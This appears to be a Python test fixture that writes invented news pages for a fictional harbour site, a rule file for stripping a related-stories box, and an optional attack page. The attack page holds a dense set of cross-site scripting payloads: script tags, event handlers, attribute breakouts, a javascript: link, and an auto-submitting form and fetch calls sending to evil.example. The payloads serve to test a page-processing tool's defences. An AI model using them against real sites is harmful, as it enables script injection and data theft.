"""Invented pages of two sites, a rule file for one of them, and a page that attacks who looks at it."""

from __future__ import annotations

from pathlib import Path

HOST = "quay.example"
RULE = """\
# Rules of the quay.
format: 1
id: quay
status: stable
match:
  hosts: [quay.example]
remove:
  - id: also
    why: Box of other stories
    label: related_link
    html: {css: section.qx-also}
    text: {lines: [More from the quay]}
tests:
  - name: the box goes
    url: https://quay.example/a
    html: |
      <article><p>The old ferry sailed again on Monday, and the whole village came down to the quay to see it.</p>
      <section class="qx-also"><p>More from the quay</p></section></article>
    removed: {More from the quay: also}
    kept: [The old ferry sailed]
"""
_STORY = (
    "The old ferry sailed again on Monday, and the whole village came down to the quay to see it go.",
    "Nobody remembered who had paid for the paint, but everybody agreed that it was far too green.",
    "The engineer, who had slept on board for a week, said that the boiler would outlive them all.",
)
_PAGE = """\
<!doctype html><html lang="en"><head><title>{title}</title><link rel="canonical" href="{url}"></head>
<body><header class="qx-top"><nav><a href="/">Home</a> <a href="/boats">Boats</a></nav></header>
<main><article class="qx-story"><h1>{title}</h1>
<p>{a}</p><p>{b}</p>
<aside class="qx-quote"><p>It was the finest morning of all my years on the river, said the pilot.</p></aside>
<p class="qx-note">Sign the petition for the old ferry at the harbour office, which is open on all days until noon.</p>
<p>{c}</p></article>
<section class="qx-also"><h3>More from the quay</h3><ul><li><a href="/tag/x">A storm sinks two barges</a></li>
<li><a href="/tag/y">Old maps found in an attic</a></li></ul></section>
<div id="disqus_thread"><p>Comments of the readers</p></div></main>
<footer class="qx-foot"><p>© The Quay Courier</p></footer></body></html>
"""
NOTE = "Sign the petition for the old ferry"
QUOTE = "It was the finest morning"
COMMENTS = "Comments of the readers"
BOX = "A storm sinks two barges"

ATTACK = """\
<!doctype html><html><head><title>Attack &lt;script&gt;alert(1)&lt;/script&gt; "quoted' </title>
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">
<link rel="canonical" href="https://evil.example/&quot;onmouseover=hit()">
<meta http-equiv="refresh" content="0;url=http://evil.example/away">
<style>@import url(http://evil.example/b.css); body {{ background: url(http://evil.example/c.png) }}</style>
<svg><style>&lt;/style&gt;&lt;img src=http://evil.example/d.png onerror="top.hit('svg')"&gt;</style></svg>
<script>top.hit("script"); fetch("http://evil.example/e")</script></head>
<body onload="top.hit('load')">
<article><p onclick="top.hit('click')" onmouseover="top.hit('over')" class="x&quot; onfocus=&quot;top.hit('class')">
The harbour board voted on Tuesday to widen the quay after months of quarrels about the cost of it.</p>
<p>&lt;script&gt;top.hit("text")&lt;/script&gt; &lt;img src=x onerror="top.hit('img')"&gt; stood in the minutes of the
board, to everybody's great surprise.</p>
<p>&lt;/template&gt;&lt;/style&gt;&lt;/iframe&gt;&lt;svg onload=top.hit('close')&gt; was what the engineer wrote
beneath it in green ink.</p>
<img src="http://evil.example/f.png" onerror="top.hit('error')"><iframe src="http://evil.example/g"></iframe>
<form action="http://evil.example/h" method="post"><input name="a" value="1"><button>Send the form away</button></form>
<script>document.forms[0].submit()</script>
<a href="http://evil.example/i" target="_top">Follow this link to the other harbour, which has a wider quay.</a>
<a href="javascript:top.hit('link')">Follow this one to the other harbour as well, which has an older one.</a>
</article></body></html>
"""


def page(number: int, host: str = HOST) -> str:
    """One page of a site, with a title of its own."""
    url = f"https://www.{host}/news/{number}"
    a, b, c = _STORY
    return _PAGE.format(title=f"Ferry number {number} sails", url=url, a=a, b=b, c=c)


def write_pages(folder: Path, count: int = 3, *, attack: bool = False) -> Path:
    """`count` pages of quay.example, one of another site, and the attack where it is asked for."""
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        (folder / f"{number}.html").write_text(page(number), "utf-8")
    (folder / "other.html").write_text(page(9, "delta.example"), "utf-8")
    if attack:
        (folder / "zz-attack.html").write_text(ATTACK, "utf-8")
    return folder
